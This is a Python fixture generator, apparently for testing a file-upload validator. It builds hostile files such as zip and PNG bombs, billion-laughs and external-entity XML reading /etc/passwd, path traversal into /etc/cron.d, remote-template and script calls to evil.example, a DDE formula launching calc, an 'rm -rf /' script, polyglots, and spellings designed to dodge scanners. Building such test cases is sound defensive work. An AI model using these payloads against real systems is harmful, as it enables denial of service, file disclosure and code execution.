"""Files as weapons: each is made by a function, so that none lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image

MEGABYTE = 2**20
TYPES = "[Content_Types].xml"
EXE = b"MZ\x90\0\x03" + b"\0" * 200 + b"This program cannot be run in DOS mode"
HTML = b"<!DOCTYPE html><html><script>fetch('//evil.example')</script></html>"
PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
OGG = b"OggS\x00\x02" + b"\0" * 22 + b"\x01\x13OpusHead" + b"\0" * 40
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">'
RELATION = '<Relationships><Relationship Type="http://x/{kind}" Target="{to}" TargetMode="External"/></Relationships>'


@dataclass(frozen=True)
class Weapon:
    """A file, what it calls itself, and whether it may be kept: refused (None) or harmless, as this media type."""

    name: str
    data: bytes
    kept: str | None = None


def packed(parts: Mapping[str, bytes | str], *, stored: bool = False) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def workbook(*rows: tuple[str, ...]) -> bytes:
    book, written = Workbook(), io.BytesIO()
    for row in rows or (("Empresa", "Contacto"), ("Luna", "Laura")):
        book.worksheets[0].append(row)
    book.save(written)
    return written.getvalue()


def with_parts(parts: Mapping[str, bytes | str]) -> bytes:
    """A real workbook with parts added or in place of its own."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        own: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return packed({**own, **parts})


def sheet(rows: str, before: str = "") -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    whole = f'<?xml version="1.0"?>{before}<worksheet {main}><sheetData>{rows}</sheetData></worksheet>'
    return with_parts({"xl/worksheets/sheet1.xml": whole})


def word(extra: Mapping[str, bytes | str] | None = None) -> bytes:
    return packed({TYPES: "<Types/>", "word/document.xml": "<document/>", **(extra or {})})


def picture(kind: str, size: tuple[int, int] = (40, 30), **how: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, "teal").save(written, kind, **how)
    return written.getvalue()


def png(width: int, height: int, rows: bytes) -> bytes:
    """A PNG that says it is this large, whatever its compressed rows are."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def blank_png(width: int, height: int) -> bytes:
    """All of it black, made row by row."""
    packing, row = zlib.compressobj(1), bytes(3 * width + 1)
    return png(width, height, b"".join(packing.compress(row) for _ in range(height)) + packing.flush())


def lying(data: bytes, *, says: int) -> bytes:
    """The archive with another unpacked size in front of its first part and in its directory."""
    changed, size = bytearray(data), struct.pack("<I", says)
    changed[22:26] = size
    directory = data.index(b"PK\x01\x02")
    changed[directory + 24 : directory + 28] = size
    return bytes(changed)


def encrypted(data: bytes) -> bytes:
    changed = bytearray(data)
    directory = data.index(b"PK\x01\x02")
    changed[6] |= 1
    changed[directory + 8] |= 1
    return bytes(changed)


def overlapping(copies: int) -> bytes:
    """One part, named by many entries of the directory: a bomb whose ratio no entry shows."""
    content = zlib.compressobj(wbits=-15)
    body = content.compress(b"\0" * MEGABYTE) + content.flush()
    crc = zlib.crc32(b"\0" * MEGABYTE)
    common = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(body), MEGABYTE)
    names = [TYPES.encode(), b"xl/workbook.xml", *(b"xl/%05d" % number for number in range(copies))]
    local = b"PK\x03\x04" + common + struct.pack("<HH", len(names[0]), 0) + names[0] + body
    directory = b"".join(
        b"PK\x01\x02\x14\0" + common + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name for name in names
    )
    counts = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(directory), len(local), 0)
    return local + directory + b"PK\x05\x06" + counts


def arsenal() -> Iterator[Weapon]:
    yield from archives()
    yield from spreadsheets()
    yield from pictures()
    yield from disguises()
    yield from lists()


def archives() -> Iterator[Weapon]:
    zeros = b"\0" * MEGABYTE
    yield Weapon("bomb.xlsx", with_parts({f"xl/media/{n}.png": zeros for n in range(110)}))
    yield Weapon("bomb.docx", word({"word/media/1.png": zeros * 30}))
    yield Weapon("one-part.xlsx", with_parts({"xl/sharedStrings.xml": b" " * (101 * MEGABYTE)}))
    yield Weapon("nested.docx", word({"word/embeddings/a.zip": packed({"b.zip": packed({"c": zeros * 2})})}), "docx")
    yield Weapon("many.xlsx", with_parts({f"xl/p{n}": b"" for n in range(2_001)}))
    yield Weapon("directory.xlsx", packed({f"{n}": b"" for n in range(10_000)}, stored=True))
    yield Weapon("says-little.xlsx", lying(packed({TYPES: zeros, "xl/workbook.xml": b""}), says=10))
    yield Weapon("says-much.xlsx", lying(packed({TYPES: b"a", "xl/workbook.xml": b""}), says=2**31))
    yield Weapon("overlap.xlsx", overlapping(99))
    yield Weapon("encrypted.docx", encrypted(word()))
    yield Weapon("truncated.docx", word()[:-30])
    yield Weapon("cut.xlsx", workbook()[:2_000])
    yield Weapon("only-end.xlsx", b"PK\x05\x06" + b"\0" * 18)
    yield Weapon("two-minds.xlsx", packed({TYPES: "", "xl/workbook.xml": "", "word/document.xml": ""}))
    yield Weapon("no-types.docx", packed({"word/document.xml": ""}))
    yield Weapon("program.docx", packed({"setup.exe": EXE}))
    yield Weapon("app.jar.docx", packed({"META-INF/MANIFEST.MF": "Main-Class: Evil"}))
    yield Weapon("traversal.docx", word({"../../../etc/cron.d/evil": "* * * * *"}), "docx")
    yield Weapon("macro.docx", word({"word/vbaProject.bin": EXE}))
    yield Weapon("control.docx", word({"word/activeX/activeX1.bin": EXE}))
    yield Weapon("object.docx", word({"word/embeddings/oleObject1.bin": EXE}))
    template = RELATION.format(kind="attachedTemplate", to="https://evil.example/t.dotm")
    yield Weapon("template.docx", word({"word/_rels/settings.xml.rels": template}))
    yield from disguised_templates(template)
    yield Weapon("template16.docx", word({"word/_rels/settings.xml.rels": template.encode("utf-16")}))
    link = RELATION.format(kind="hyperlink", to="https://evil.example")
    yield Weapon("link.docx", word({"word/_rels/document.xml.rels": link}), "docx")


def disguised_templates(template: str) -> Iterator[Weapon]:
    """The same to whoever reads XML, not to whoever searches for words."""
    spelled = {"external": ("External", "&#69;xternal"), "kind": ("attachedTemplate", "attached&#84;emplate")}
    for name, (word_, escaped) in spelled.items():
        changed = template.replace(word_, escaped)
        yield Weapon(f"template-{name}.docx", word({"word/_rels/settings.xml.rels": changed}))
    straddling = template.replace(" TargetMode", f"{' ' * 65_500} TargetMode")
    yield Weapon("template-straddling.docx", word({"word/_rels/settings.xml.rels": straddling}))
    yield Weapon("template-upper.docx", word({"word/_rels/settings.xml.RELS": template}))
    yield Weapon("relations.docx", word({"word/_rels/settings.xml.rels": "<Relationships>"}))
    yield Weapon("long-relations.docx", word({"word/_rels/settings.xml.rels": f"<a>{' ' * MEGABYTE}</a>"}))
    escaped = '<Types><Override ContentType="x.macro&#69;nabled.main"/></Types>'
    yield Weapon("enabled-spelled.docx", word({TYPES: escaped}))


def spreadsheets() -> Iterator[Weapon]:
    yield Weapon("macro.xlsx", with_parts({"xl/vbaProject.bin": EXE}))
    yield Weapon("macro4.xlsx", with_parts({"xl/macrosheets/sheet1.xml": "<x/>"}))
    yield Weapon("enabled.xlsx", with_parts({TYPES: '<Types><Override ContentType="x.macroEnabled.main"/></Types>'}))
    yield Weapon("laughs.xlsx", sheet("", LAUGHS + "]>"))
    yield Weapon("outside.xlsx", sheet("", OUTSIDE + "]>"))
    yield Weapon("outside16.xlsx", with_parts({"xl/workbook.xml": f"{OUTSIDE}]><a>&x;</a>".encode("utf-16")}))
    yield Weapon("quadratic.xlsx", with_parts({"xl/styles.xml": f'<!DOCTYPE a [<!ENTITY b "{"x" * 9999}">]><a/>'}))
    yield Weapon("deep.xlsx", sheet("<a>" * 20_000 + "</a>" * 20_000), "xlsx")
    yield Weapon("broken.xlsx", with_parts({"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row>"}), "xlsx")
    yield Weapon("empty-parts.xlsx", with_parts({"xl/workbook.xml": "", "xl/styles.xml": ""}), "xlsx")
    yield Weapon("far.xlsx", sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "xlsx")
    yield Weapon("further.xlsx", sheet('<row r="99999999999"><c r="ZZZZ9"><v>1</v></c></row>'), "xlsx")
    yield Weapon("long.xlsx", sheet("".join(f"<row><c><v>{n}</v></c></row>" for n in range(40_000))), "xlsx")
    yield Weapon("wide.xlsx", sheet(f"<row>{''.join(f'<c><v>{n}</v></c>' for n in range(40_000))}</row>"), "xlsx")
    yield Weapon("dense.xlsx", sheet("<row><c><v>1</v></c></row>" * 1_048_576))
    yield Weapon("fat-cell.xlsx", sheet(f'<row><c t="inlineStr"><is><t>{"ab" * 400_000}</t></is></c></row>'), "xlsx")
    yield Weapon("number.xlsx", sheet(f"<row><c><v>{'9' * 5_000}</v></c><c><v>1e999</v></c></row>"), "xlsx")
    yield Weapon("formula.xlsx", workbook(("Empresa", "Contacto"), ("=cmd|' /C calc'!A0", "@Laura")), "xlsx")
    book = RELATION.format(kind="externalLinkPath", to="file://evil.example/share/x.xlsx")
    yield Weapon("other-book.xlsx", with_parts({"xl/externalLinks/_rels/externalLink1.xml.rels": book}), "xlsx")


def pictures() -> Iterator[Weapon]:
    yield Weapon("large.png", png(20_000, 20_000, zlib.compress(bytes(100_000))))
    yield Weapon("larger.png", png(2**31 - 1, 2**31 - 1, b""))
    yield Weapon("just-too-large.png", png(7_072, 7_072, b""))
    yield Weapon("just-fits.png", blank_png(7_000, 7_000), "png")
    yield Weapon("nothing.png", png(0, 0, b""))
    yield Weapon("short.png", png(4_000, 3_000, zlib.compress(bytes(10))))
    yield Weapon("text.png", picture("PNG")[:33] + _text_bomb() + picture("PNG")[33:])
    yield Weapon("half.jpg", picture("JPEG", (400, 300))[:500])
    yield Weapon("head.jpg", b"\xff\xd8\xff\xe0")
    yield Weapon("half.webp", picture("WEBP", (400, 300))[:60])
    yield Weapon("page.jpg", picture("JPEG") + HTML, "jpg")
    yield Weapon("archive.jpg", picture("JPEG") + packed({"x.exe": EXE}), "jpg")
    yield Weapon("sheet.png", picture("PNG") + workbook(), "png")
    yield Weapon("comment.jpg", picture("JPEG", comment=HTML), "jpg")
    yield Weapon("strip.png", picture("PNG", (50_000, 1)), "png")


def _text_bomb() -> bytes:
    content = b"zTXtnote\0\0" + zlib.compress(b"a" * (20 * MEGABYTE))
    return struct.pack(">I", len(content) - 4) + content + struct.pack(">I", zlib.crc32(content))


def disguises() -> Iterator[Weapon]:
    yield Weapon("empty.pdf", b"")
    yield Weapon("photo.jpg", EXE)
    yield Weapon("plan.pdf", HTML)
    yield Weapon("plan.docx", HTML)
    yield Weapon("later.pdf", b"<html>" + PDF)
    yield Weapon("cut.pdf", PDF[:20])
    yield Weapon("both.pdf", PDF + packed({"x.exe": EXE}))
    yield Weapon("plan.xlsx", PDF)
    yield Weapon("picture.pdf", picture("PNG"))
    yield Weapon("list.xlsx", word())
    yield Weapon("voice.ogg", OGG + packed({"x.exe": EXE}))
    yield Weapon("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    yield Weapon("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    yield Weapon("run.sh", b"#!/bin/sh\nrm -rf /\n")
    yield Weapon("shortcut.pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100)
    yield Weapon("elf.png", b"\x7fELF" + b"\0" * 100)
    yield Weapon("old.gif", b"GIF89a" + b"\0" * 100)


def lists() -> Iterator[Weapon]:
    yield Weapon("page.csv", HTML)
    yield Weapon("program.csv", EXE)
    yield Weapon("nuls.csv", b"Empresa,Contacto\n\0\0\0\n")
    yield Weapon("quote.csv", b'Empresa,Contacto\n"' + b"x" * 3_000_000, "csv")
    yield Weapon("commas.csv", b"," * 4_000_000, "csv")
    yield Weapon("lines.csv", b"a\n" * 2_000_000, "csv")
    yield Weapon("cells.csv", (b"a" * 190 + b";" + b"b," * 45 + b"\n") * 15_000, "csv")
    yield Weapon("late-nul.csv", b"Empresa,Contacto\n" + b"x" * 5_000 + b"\0", "csv")
    yield Weapon("formula.csv", b"Empresa,Contacto\n=1+1,@SUM(A1)\n", "csv")
    yield Weapon("half.csv", "Empresa,Contacto\nLuna,Ana".encode("utf-16")[:-1], "csv")
